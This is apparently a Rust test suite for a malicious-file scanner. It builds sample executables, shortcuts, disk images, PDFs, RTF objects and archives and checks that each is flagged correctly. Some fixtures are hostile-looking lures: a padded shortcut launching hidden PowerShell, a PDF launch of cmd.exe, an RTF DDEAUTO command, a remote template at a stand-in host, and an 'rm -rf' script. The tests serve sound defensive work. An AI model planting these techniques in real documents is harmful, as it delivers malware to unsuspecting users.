use super::super::MarkKind::{
    self, Broken, DiskImage, EmbeddedObject, Encrypted, Executable, ExternalTemplate, NotLookedAt, PdfAction,
    Script,
};
use super::made::{gzip, jpeg, lnk, pe, zip};
use super::{check, evidence};

#[test]
fn programs_are_known_by_content() {
    let mut dos = vec![0; 600];
    dos[..10].copy_from_slice(b"MZ\x10\0\x02\0\0\0\x20\0");
    let class = b"\xca\xfe\xba\xbe\0\0\0\x34\0\x10";
    let fat = b"\xca\xfe\xba\xbe\0\0\0\x02\x01\0\0\x07";
    let rows: [(&str, &[u8], &[MarkKind]); 15] = [
        ("a", &pe(), &[Executable]),
        ("a", &dos, &[Executable]),
        ("a", b"\x7fELF\x02\x01\x01\0", &[Executable]),
        ("a", b"\xcf\xfa\xed\xfe\x07\0\0\x01", &[Executable]),
        ("a", fat, &[Executable]),
        ("a", class, &[Executable]),
        ("a", b"!<arch>\ndebian-binary   ", &[Executable]),
        ("a", b"ITSF\x03\0\0\0", &[Script]),
        ("a", b"#!/bin/sh\nrm -rf x\n", &[Script]),
        ("a", b"@echo off\r\ncalc\r\n", &[Script]),
        ("a", b"Set x = CreateObject(\"WScript.Shell\")", &[Script]),
        ("a", b"<job><script language=\"JScript\">x()</script></job>", &[Script]),
        ("a", b"MZ is how this letter begins, and nothing more", &[]),
        ("a.txt", b"@echo off is how a batch file begins", &[]),
        ("a.dcm", &[0; 200], &[]),
    ];
    for (name, bytes, expected) in rows {
        check(name, bytes, expected);
    }
    let jar = zip(&[
        ("META-INF/MANIFEST.MF", b"Manifest-Version: 1.0\r\nMain-Class: a.B\r\n"),
        ("a/B.class", class),
    ]);
    check("a.zip", &jar, &[Executable]);
    check(
        "a.apk",
        &zip(&[("AndroidManifest.xml", b"\x03\0"), ("classes.dex", b"dex\n035\0")]),
        &[Executable],
    );
}

#[test]
fn shortcuts_say_what_they_start() {
    let blanks = " ".repeat(300);
    let look =
        check("請求書.lnk", &lnk("..\\..\\cmd.exe", &format!("{blanks}/c powershell -w hidden")), &[Script]);
    assert!(
        look.marks.iter().any(|mark| mark.evidence.contains("cmd.exe /c powershell -w hidden")),
        "{:?}",
        look.marks
    );
    let look = check("a.url", b"[InternetShortcut]\r\nURL=file://198.51.100.7/share/a.exe\r\n", &[Script]);
    assert!(look.marks.iter().any(|mark| mark.evidence.contains("198.51.100.7")));
    // Cut off anywhere.
    let whole = lnk("a", "b");
    for end in 20..whole.len() {
        super::super::look("a.lnk", &whole[..end], &super::Limits::default(), &[]);
    }
}

#[test]
fn disk_images_are_told_and_walked_where_they_can_be() {
    let mut vhd = vec![0; 8_192];
    vhd.extend(b"conectix");
    vhd.resize(8_192 + 512, 0);
    let mut udf = vec![0; 40 * 2_048];
    udf[16 * 2_048 + 1..16 * 2_048 + 6].copy_from_slice(b"BEA01");
    udf[17 * 2_048 + 1..17 * 2_048 + 6].copy_from_slice(b"NSR02");
    let mut floppy = vec![0; 8_192];
    floppy[..3].copy_from_slice(&[0xeb, 0x3c, 0x90]);
    floppy[510..512].copy_from_slice(&[0x55, 0xaa]);
    for bytes in [&vhd[..], b"vhdxfile\0\0", &udf, &floppy] {
        check("a", bytes, &[DiskImage, NotLookedAt]);
    }
    let iso = super::made::iso(&[("EVIL.EXE", &pe()), ("READ.TXT", b"hello")]);
    let look = check("a.iso", &iso, &[DiskImage, Executable]);
    assert_eq!(look.looked_at, 3);
    assert!(look.marks.iter().any(|mark| mark.place == "a.iso/EVIL.EXE"), "{:?}", look.marks);
    let cut = &iso[..iso.len() - 2_048];
    check("a.iso", cut, &[DiskImage, Executable, Broken]);
}

#[test]
fn notebooks_give_up_their_files() {
    let mut one = b"\xe4\x52\x5c\x7b\x8c\xd8\xa7\x4d\xae\xb1\x53\x78\xd0\x29\x96\xd3".to_vec();
    one.extend([0; 64]);
    let clean = one.clone();
    for content in [&b"@echo off\r\npowershell x\r\n"[..], &jpeg()] {
        one.extend(b"\xe7\x16\xe3\xbd\x65\x26\x11\x45\xa4\xc4\x8d\x4d\x0b\x7a\x9e\xac");
        one.extend((content.len() as u64).to_le_bytes());
        one.extend([0; 12]);
        one.extend(content);
    }
    one.extend("\0Open.bat\0".encode_utf16().flat_map(u16::to_le_bytes));
    let look = check("a.one", &one, &[EmbeddedObject, Script]);
    assert!(look.marks.iter().any(|mark| mark.evidence.contains("Open.bat")), "{:?}", look.marks);
    check("a.one", &clean, &[]);
}

#[test]
fn winmail_dat_gives_up_its_files() {
    let mut tnef = b"\x78\x9f\x3e\x22\x01\0".to_vec();
    let mut attribute = |level: u8, id: u32, content: &[u8]| {
        tnef.push(level);
        tnef.extend(id.to_le_bytes());
        tnef.extend((content.len() as u32).to_le_bytes());
        tnef.extend(content);
        tnef.extend([0, 0]);
    };
    attribute(1, 0x0008_9006, &[0; 4]);
    attribute(2, 0x0006_9002, &[0; 14]);
    attribute(2, 0x0006_800f, &pe());
    attribute(2, 0x0001_8010, b"setup.exe\0");
    let look = check("winmail.dat", &tnef, &[Executable]);
    assert!(look.marks.iter().any(|mark| mark.place == "winmail.dat/setup.exe"));
    check("winmail.dat", &tnef[..tnef.len() - 40], &[Executable, Broken]);
}

fn pdf(objects: &str) -> Vec<u8> {
    format!("%PDF-1.5\n1 0 obj\n<</Type/Catalog {objects}>>\nendobj\n2 0 obj<</Type/Page>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF")
        .into_bytes()
}

/// A packed stream with its dictionary.
fn packed(dictionary: &str, content: &[u8]) -> Vec<u8> {
    let body = miniz_oxide::deflate::compress_to_vec_zlib(content, 9);
    let head = format!("{dictionary}/Filter/FlateDecode/Length {}>>\nstream\n", body.len());
    [head.as_bytes(), &body, b"\nendstream\nendobj\n"].concat()
}

#[test]
fn pdf_that_starts_something_is_found() {
    let rows: [(&str, &[MarkKind], &str); 12] = [
        ("", &[], ""),
        ("/URI(https://a.example/)", &[], ""),
        ("/OpenAction[2 0 R /Fit]", &[], ""),
        ("/OpenAction<</S/JavaScript/JS(app.alert\\(1\\))>>", &[PdfAction], "/OpenAction /JavaScript"),
        ("/Open#41ction<</S/J#61vaScript/JS(x)>>", &[PdfAction], "/OpenAction /JavaScript"),
        ("/AA<</O<</S/JavaScript/JS 5 0 R>>>>", &[PdfAction], "/AA /JavaScript"),
        ("/AA<</F<</S/JavaScript/JS(AFNumber_Format\\(0, 1\\);)>>>>", &[], ""),
        ("/OpenAction<</S/Launch/Win<</F(cmd.exe)/P(/c calc)>>>>", &[PdfAction], "/Launch cmd.exe /c calc"),
        ("/Names<</EmbeddedFiles<</F(a.xml)>>>>", &[PdfAction], "/EmbeddedFile a.xml"),
        ("/Names<</EmbeddedFiles<</UF(a.exe)>>>>", &[PdfAction, EmbeddedObject], "/EmbeddedFile a.exe"),
        ("/AcroForm<</XFA 5 0 R>>", &[], ""),
        ("/Encrypt 9 0 R", &[], ""),
    ];
    for (objects, expected, shown) in rows {
        let look = check("a.pdf", &pdf(objects), expected);
        assert_eq!(evidence(&look, PdfAction), shown, "{objects}");
    }
}

#[test]
fn pdf_is_looked_at_inside_its_packed_objects() {
    let objects = packed("3 0 obj\n<</Type/ObjStm/N 1", b"4 0 <</OpenAction<</S/JavaScript/JS(x)>>>>");
    let bytes = [&pdf("")[..], &objects].concat();
    check("a.pdf", &bytes, &[PdfAction]);
    // Behind anything that comes before it, as readers allow.
    check("a.pdf", &[&b"\n\njunk\n"[..], &bytes].concat(), &[PdfAction]);
    let file = packed("3 0 obj\n<</Type/EmbeddedFile", &pe());
    check("a.pdf", &[&pdf("")[..], &file].concat(), &[PdfAction, Executable]);
    // Encrypted objects do not unpack: nobody looked inside.
    let sealed = format!(
        "3 0 obj\n<</Type/ObjStm/Filter/FlateDecode>>\nstream\n{}\nendstream endobj",
        "\u{7f}".repeat(64)
    );
    check("a.pdf", &[&pdf("/Encrypt 9 0 R")[..], sealed.as_bytes()].concat(), &[Encrypted]);
}

#[test]
fn rtf_objects_are_opened() {
    let hex = |bytes: &[u8]| bytes.iter().map(|byte| format!("{byte:02x}")).collect::<String>();
    let counted = |text: &str| [&(text.len() as u32 + 1).to_le_bytes()[..], text.as_bytes(), b"\0"].concat();
    let mut package = vec![2, 0];
    package.extend(b"a.txt\0C:\\a.exe\0\0\0\x03\0");
    package.extend([&9_u32.to_le_bytes()[..], b"C:\\a.exe\0"].concat());
    package.extend([&(pe().len() as u32).to_le_bytes()[..], &pe()].concat());
    let object = |class: &str, content: &[u8]| {
        let mut data = [&[1, 5, 0, 0, 2, 0, 0, 0][..], &counted(class), &[0; 8]].concat();
        data.extend((content.len() as u32).to_le_bytes());
        data.extend(content);
        format!("{{\\rtf1{{\\object\\objemb{{\\*\\objdata {}}}}}}}", hex(&data))
    };
    let look = check("a.doc", object("Package", &package).as_bytes(), &[EmbeddedObject, Executable]);
    assert!(evidence(&look, EmbeddedObject).contains("Package"));
    // Control words and groups between the digits, which Word passes over.
    let obscured = object("Package", &package).replace("0003", "00\\bin0 {\\object}\n03");
    check("a.rtf", obscured.as_bytes(), &[EmbeddedObject, Executable]);
    check("a.rtf", object("Equation.3", b"x").as_bytes(), &[EmbeddedObject]);
    check("a.rtf", object("Excel.Sheet.12", b"x").as_bytes(), &[]);
    check("a.rtf", b"{\\rt{\\*\\template http\\'3a//lure.example/t.dotm}}", &[ExternalTemplate]);
    check("a.rtf", b"{\\rtf1{\\*\\template C:\\\\Templates\\\\normal.dotm}}", &[]);
    check("a.rtf", b"{\\rtf1{\\field{\\*\\fldinst { DDEAUTO c:\\\\cmd.exe \"/c calc\"}}}}", &[MarkKind::Dde]);
    check("a.rtf", b"{\\rtf1{\\field{\\*\\fldinst HYPERLINK \"https://a.example\"}}}", &[]);
}

#[test]
fn packed_streams_are_opened() {
    check("a.exe.gz", &gzip(&pe()), &[Executable]);
    check("a.txt.gz", &gzip(b"hello"), &[]);
    check("a.gz", &[gzip(b"hello"), gzip(b"hello")].concat(), &[]);
    check("a.gz", &gzip(&testkit::noise(3, 4_000))[..1_000], &[Broken]);
    check("a.zst", b"\x28\xb5\x2f\xfd\0\0\0", &[NotLookedAt]);
}
